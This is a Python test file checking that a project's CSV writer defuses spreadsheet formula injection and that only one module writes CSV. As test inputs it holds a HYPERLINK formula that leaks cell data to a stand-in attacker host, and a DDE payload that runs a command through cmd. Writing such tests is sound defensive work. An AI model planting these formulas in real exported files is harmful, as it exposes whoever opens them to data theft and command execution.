"""The one CSV writer: cells a spreadsheet would run are shown as text, and nothing writes CSV past it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from balise.operations.portability import _csv
from balise.spreadsheet import safe_cell, write_csv

SRC = Path(__file__).resolve().parents[1] / "src" / "balise"


def test_formula_cells_are_prefixed_and_the_rest_kept() -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    for text in (attack, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Tri des requêtes 311") == "Tri des requêtes 311"
    assert safe_cell(-5) == -5 and safe_cell(None) == "" and safe_cell({"a": "=1"}) == '{"a": "=1"}'
    written = write_csv([{"name": attack, "n": 3, "x": "dropped"}], ["name", "n"])
    rows = list(csv.DictReader(io.StringIO(written)))
    assert rows == [{"name": "'" + attack, "n": "3"}]


def test_the_tenant_export_csv_is_neutralised() -> None:
    text = _csv([{"id": "1", "title": "=cmd|' /C calc'!A0"}], ["id", "title"]).decode()
    assert list(csv.DictReader(io.StringIO(text))) == [{"id": "1", "title": "'=cmd|' /C calc'!A0"}]


def test_no_module_writes_csv_except_the_one_writer() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\b")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "spreadsheet.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
